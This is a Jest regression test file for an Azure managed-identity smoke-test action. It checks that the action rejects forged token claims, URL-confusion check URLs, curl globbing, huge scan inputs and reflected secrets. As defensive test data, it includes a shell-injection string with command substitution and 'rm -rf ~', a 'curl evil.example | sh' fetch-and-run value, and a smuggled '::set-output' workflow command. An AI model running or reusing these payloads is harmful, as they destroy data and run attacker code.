/**
 * Regression tests for every attack of the trust-boundary issue, driving the built action
 * (dist/index.js) as the runner does. A hostile workload is played by a loopback smoke endpoint
 * that answers whatever the test says, and by an emulated VM printing a forged probe line (as a
 * compromised VM would, through the emulator's ARM compute endpoints); the host a token must never reach is a loopback listener that
 * counts connections. Each attack must fail safely: outputs hold only values of their declared
 * shapes, no connection reaches the other host, one check makes one call, and the verdict comes
 * within the test's time (the quadratic scans took hours on 1 MiB).
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import {
  createServer as createTcpServer,
  type AddressInfo,
  type Server as TcpServer
} from 'node:net'
import { existsSync, readFileSync, rmSync } from 'node:fs'
import type { Emulator } from '../../emulator/emulator'
import { FAILURE_MODES } from '../../src/contracts/report'
import { ACTION_ENTRY, everythingWritten, runAction, type ActionRun } from '../helpers/run-action'
import { startArmFleet, type ArmFleet } from '../helpers/arm-fleet'
import { armCheck, runAgainst } from '../helpers/emulator-action'

jest.setTimeout(120_000)

const KEY = 'hostile-test-endpoint-key-0123456789'
const GUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i
const SHELL_PAYLOAD = '"; $(touch /tmp/mi-smoke-pwned) `id` #\nrm -rf ~'
const SUB = '0b1f6471-1bf0-4dda-aec3-cb9272f09590'
const VM = `/subscriptions/${SUB}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/web-1`

let fleet: ArmFleet
let emulator: Emulator
/** The smoke endpoint under the attacker's control: answers with `respond`. */
let hostile: Server
let hostileUrl: string
let respond: (req: IncomingMessage, body: string, res: ServerResponse) => void
/** The host nobody named: counts every connection made to it. */
let other: TcpServer
let otherPort: number
let otherConnections = 0

beforeAll(async () => {
  expect(existsSync(ACTION_ENTRY)).toBe(true)
  fleet = await startArmFleet()
  emulator = fleet.emulator
  hostile = createServer((req, res) => {
    let body = ''
    req.on('data', (c: Buffer) => (body += c.toString('utf8')))
    req.on('end', () => respond(req, body, res))
  })
  await new Promise<void>(done => hostile.listen(0, '127.0.0.1', done))
  hostileUrl = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/mi-smoke`
  other = createTcpServer(socket => {
    otherConnections++
    socket.destroy()
  })
  await new Promise<void>(done => other.listen(0, '127.0.0.1', done))
  otherPort = (other.address() as AddressInfo).port
})
afterAll(async () => {
  await new Promise(done => hostile.close(done))
  await new Promise(done => other.close(done))
  await fleet.close()
})
beforeEach(() => {
  rmSync(fleet.azLog, { force: true })
  emulator.compute.reset()
  otherConnections = 0
  emulator.clearRequests()
})

/** Every output holds a value of its declared shape (or nothing). */
function expectShapedOutputs(run: ActionRun): void {
  const o = run.outputs
  expect(['pass', 'warn', 'fail']).toContain(o['result'])
  expect(['', 'dispatch', 'imds', 'token', 'api']).toContain(o['failed-step'])
  expect(['', ...FAILURE_MODES]).toContain(o['failure-mode'])
  for (const name of ['principal-id', 'client-id', 'tenant-id']) {
    expect({ name, value: o[name] }).toEqual({
      name,
      value: expect.stringMatching(/^$|^[0-9a-f-]{36}$/i)
    })
    if (o[name]) expect(o[name]).toMatch(GUID)
  }
  expect(o['expires-on']).toMatch(/^$|^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,3})?Z$/)
  expect(() => JSON.parse(o['report'] ?? '')).not.toThrow()
  expect(o['report-path']).not.toMatch(/[\r\n]/)
  // Nothing of a shell payload anywhere a later step could read it.
  expect(run.outputFile).not.toContain('$(touch')
  expect(run.summary).not.toContain('$(touch')
}

function claimsOf(claims: Record<string, unknown>): string {
  return Buffer.from(JSON.stringify(claims)).toString('base64url')
}

/** Observations shaped as the handler's, answering `nonce` for the one ARM check of `checkUrl`. */
function forgedObservations(
  nonce: string,
  checkUrl: string,
  claims: Record<string, unknown>
): Record<string, unknown> {
  return {
    v: 1,
    nonce,
    probe: 'handler',
    source: 'app-service',
    tokens: [
      {
        url: 'http://127.0.0.1:41741/msi/token?api-version=2019-08-01',
        status: 200,
        attempts: 1,
        ms: 3,
        resource: 'https://management.azure.com/',
        shape: 'jwt',
        fields: { expires_on: String(Math.floor(Date.now() / 1000) + 3600), token_type: 'Bearer' },
        claims: claimsOf(claims)
      }
    ],
    apis: [{ check: 0, url: checkUrl, status: 200, attempts: 1, ms: 5 }]
  }
}

const ARM_CHECK = 'https://management.azure.com/subscriptions?api-version=2022-12-01'

function runHttps(inputs: Record<string, string> = {}): Promise<ActionRun> {
  return runAction({
    inputs: {
      targets: hostileUrl,
      checks: ARM_CHECK,
      'endpoint-key': KEY,
      timeout: '5s',
      ...inputs
    },
    timeoutMs: 100_000
  })
}

function answerJson(status: number, body: unknown): typeof respond {
  return (_req, _body, res) => {
    const text = typeof body === 'string' ? body : JSON.stringify(body)
    res.writeHead(status, { 'content-type': 'application/json' })
    res.end(text)
  }
}

function answerObservations(make: (nonce: string) => unknown): typeof respond {
  return (_req, body, res) => {
    const nonce = (JSON.parse(body) as { nonce: string }).nonce
    res.writeHead(200, { 'content-type': 'application/json' })
    res.end(JSON.stringify(make(nonce)))
  }
}

/** A compromised VM: its run-command prints these observations (with this run's nonce). */
async function runVmAnswering(observations: (nonce: string) => unknown): Promise<ActionRun> {
  emulator.compute.configure({
    vmOutput: `MI-SMOKE-OBS/1 ${JSON.stringify(observations('{nonce}'))}\n`
  })
  return runAction({
    inputs: {
      targets: `vm:${VM}`,
      checks: ARM_CHECK,
      timeout: '2s',
      'imds-endpoint': emulator.imdsUrl
    },
    env: fleet.env(),
    timeoutMs: 100_000
  })
}

describe('code on the runner: forged claims never reach an output', () => {
  const forged = {
    oid: SHELL_PAYLOAD,
    appid: `x\n::set-output name=result::pass`,
    tid: "'; curl evil.example | sh"
  }

  test('over https: dispatch-failed naming the field, identity outputs empty', async () => {
    respond = answerObservations(nonce => forgedObservations(nonce, ARM_CHECK, forged))
    const run = await runHttps()
    expectShapedOutputs(run)
    expect(run.outputs['failure-mode']).toBe('dispatch-failed')
    expect(run.outputs['principal-id']).toBe('')
    expect(run.report.targets[0].steps[0].detail).toMatch(
      /answered with invalid observations: tokens\[0\].claims.oid is not a GUID/
    )
  })

  test('over a VM (run-command output): the same refusal, the same outputs', async () => {
    const run = await runVmAnswering(nonce => ({
      ...forgedObservations(nonce, ARM_CHECK, forged),
      probe: 'sh/curl',
      source: 'imds'
    }))
    expectShapedOutputs(run)
    expect(run.outputs['failure-mode']).toBe('dispatch-failed')
    expect(run.outputs['principal-id']).toBe('')
    expect(run.report.targets[0].steps[0].detail).toMatch(/tokens\[0\].claims.oid is not a GUID/)
  })

  test('a well-formed forgery passes (a compromised workload can forge a pass), with GUID outputs only', async () => {
    const oid = '11111111-2222-4333-8444-555555555555'
    respond = answerObservations(nonce =>
      forgedObservations(nonce, ARM_CHECK, {
        oid,
        appid: oid,
        tid: '72f988bf-86f1-41af-91ab-2d7cd011db47',
        aud: 'https://management.azure.com/',
        iss: 'https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/',
        exp: Math.floor(Date.now() / 1000) + 3600
      })
    )
    const run = await runHttps()
    expectShapedOutputs(run)
    expect(run.outputs['principal-id']).toBe(oid)
  })
})

describe('the same malformed answer is the same dispatch-failed over https and over a VM', () => {
  const malformed = (nonce: string): Record<string, unknown> => {
    const o = forgedObservations(nonce, ARM_CHECK, { oid: '11111111-2222-4333-8444-555555555555' })
    ;(o['tokens'] as Array<Record<string, unknown>>)[0]!['url'] = null
    return o
  }
  test('tokens[0].url: null', async () => {
    respond = answerObservations(malformed)
    const https = await runHttps()
    const vm = await runVmAnswering(malformed)
    for (const run of [https, vm]) {
      expectShapedOutputs(run)
      expect(run.outputs['failure-mode']).toBe('dispatch-failed')
      expect(run.report.targets[0].steps[0].detail).toMatch(
        /answered with invalid observations: tokens\[0\].url is not a string/
      )
      expect(run.report.targets[0].steps[0].detail).not.toMatch(/defect in mi-smoke/)
    }
  })
})

describe('a token to another host: check URLs clients read differently are refused before dispatch', () => {
  test.each([
    `https://management.azure.com\\@127.0.0.1:PORT/subscriptions?api-version=2022-12-01`,
    `https://management.azure.com:\\@127.0.0.1:PORT/subscriptions?api-version=2022-12-01`,
    `https://management.azure.com\\x\\@127.0.0.1:PORT/subscriptions?api-version=2022-12-01`,
    `https://management.azure.com@127.0.0.1:PORT/subscriptions?api-version=2022-12-01`
  ])('%s: bad-input, nothing dispatched, no connection to the other host', async template => {
    const check = template.replace('PORT', String(otherPort))
    for (const run of [
      await runAgainst(emulator, { checks: check }),
      await runAction({
        inputs: { targets: `vm:${VM}`, checks: check, 'imds-endpoint': emulator.imdsUrl },
        env: fleet.env()
      })
    ]) {
      expect(run.code).toBe(1)
      expect(run.outputs['failure-mode']).toBe('bad-input')
      expectShapedOutputs(run)
    }
    expect(otherConnections).toBe(0)
    expect(emulator.requests).toEqual([])
    // Not even the runner's login was read: bad input stops everything before dispatch.
    expect(existsSync(fleet.azLog)).toBe(false)
  })
})

describe('curl URL globbing: brackets are refused, and one check makes one call', () => {
  test('[1-5] in a check is bad input', async () => {
    const run = await runAgainst(emulator, {
      checks: `${emulator.apiUrl}/subscriptions/{subscriptionId}/resourcegroups[1-5]?api-version=2021-04-01 resource=https://management.azure.com/`
    })
    expect(run.outputs['failure-mode']).toBe('bad-input')
    expect(run.annotations.map(a => a.message).join('\n')).toMatch(/\[ or \] in its path or query/)
    expect(emulator.requests).toEqual([])
  })

  test('an encoded bracket is one call on a VM (curl under dash), as on local', async () => {
    const check = `${emulator.apiUrl}/subscriptions/{subscriptionId}/resourcegroups?api-version=2021-04-01&x=%5B1-5%5D resource=https://management.azure.com/`
    const run = await runAction({
      inputs: {
        targets: `vm:${VM}`,
        checks: check,
        'imds-endpoint': emulator.imdsUrl,
        timeout: '2s'
      },
      env: (emulator.compute.configure({ shell: ['dash'] }), fleet.env())
    })
    expectShapedOutputs(run)
    const apiCalls = emulator.requests.filter(
      r => r.port === 'api' && r.path.includes('/resourcegroups')
    )
    expect(apiCalls).toHaveLength(1)
    const local = await runAgainst(emulator, { checks: armCheck(emulator) })
    expect(local.outputs['result']).toBe('pass')
  })
})

describe('quadratic scanning: 1 MiB hostile answers get a verdict at once', () => {
  const mib = 1024 * 1024
  test.each<[string, typeof respond]>([
    ['200 with 1 MiB of eyJeyJ...', answerJson(200, 'eyJ'.repeat(Math.floor((mib - 16) / 3)))],
    ['404 with 1 MiB of eyJeyJ...', answerJson(404, 'eyJ'.repeat(Math.floor((mib - 16) / 3)))],
    [
      '500 with 1 MiB of eyJabc. runs',
      answerJson(500, 'eyJabcdefgh.'.repeat(Math.floor((mib - 16) / 12)))
    ],
    [
      '200 with 1 MiB of nesting',
      answerJson(200, '['.repeat(mib / 2 - 8) + ']'.repeat(mib / 2 - 8))
    ],
    [
      '200 with observations holding 1 MiB of eyJ in a field',
      answerObservations(nonce => ({
        ...forgedObservations(nonce, ARM_CHECK, {}),
        sourceDetail: 'eyJ'.repeat(300_000)
      }))
    ]
  ])('%s → dispatch-failed, shaped outputs, no token-shaped text kept', async (_name, answer) => {
    respond = answer
    const run = await runHttps()
    expectShapedOutputs(run)
    expect(run.outputs['failure-mode']).toBe('dispatch-failed')
    expect(everythingWritten(run)).not.toContain('eyJeyJeyJeyJ')
  })
})

describe('the endpoint key in the report: a reflecting endpoint gets it nowhere', () => {
  test.each<[string, typeof respond]>([
    [
      'reflected in an error body',
      (req, _body, res) => {
        res.writeHead(500, { 'content-type': 'application/json' })
        res.end(
          JSON.stringify({
            v: 1,
            error: 'internal',
            message: `you sent ${JSON.stringify(req.headers)}`
          })
        )
      }
    ],
    [
      'reflected in the observations',
      (req, body, res) => {
        const nonce = (JSON.parse(body) as { nonce: string }).nonce
        const o = forgedObservations(nonce, ARM_CHECK, {
          oid: '11111111-2222-4333-8444-555555555555'
        })
        o['sourceDetail'] = `key ${String(req.headers['x-mi-smoke-key'])}`
        ;(o['apis'] as Array<Record<string, unknown>>)[0]!['status'] = 403
        ;(o['apis'] as Array<Record<string, unknown>>)[0]!['body'] =
          `{"error":{"code":"AuthorizationFailed","message":"${String(req.headers['x-mi-smoke-key'])}"}}`
        res.writeHead(200, { 'content-type': 'application/json' })
        res.end(JSON.stringify(o))
      }
    ]
  ])('%s', async (_name, answer) => {
    respond = answer
    const run = await runHttps()
    expectShapedOutputs(run)
    // The key appears only in its one ::add-mask:: registration (it is an input the runner knows).
    const lines = everythingWritten(run)
      .split('\n')
      .filter(line => line.includes(KEY))
    expect(lines).toEqual([`::add-mask::${KEY}`])
    const reportFile = readFileSync(run.outputs['report-path']!, 'utf8')
    expect(reportFile).not.toContain(KEY)
    expect(run.outputs['report']).not.toContain(KEY)
    expect(run.summary).not.toContain(KEY)
  })
})

test('no token on stdout: a local run prints no ::add-mask:: line and no piece of the token', async () => {
  await emulator.setScenario('healthy')
  const run = await runAgainst(emulator)
  expect(run.outputs['result']).toBe('pass')
  expect(run.stdout.split('\n').filter(line => line.startsWith('::add-mask::'))).toEqual([])
  expect(everythingWritten(run)).not.toContain(emulator.canary.slice(0, 16))
})
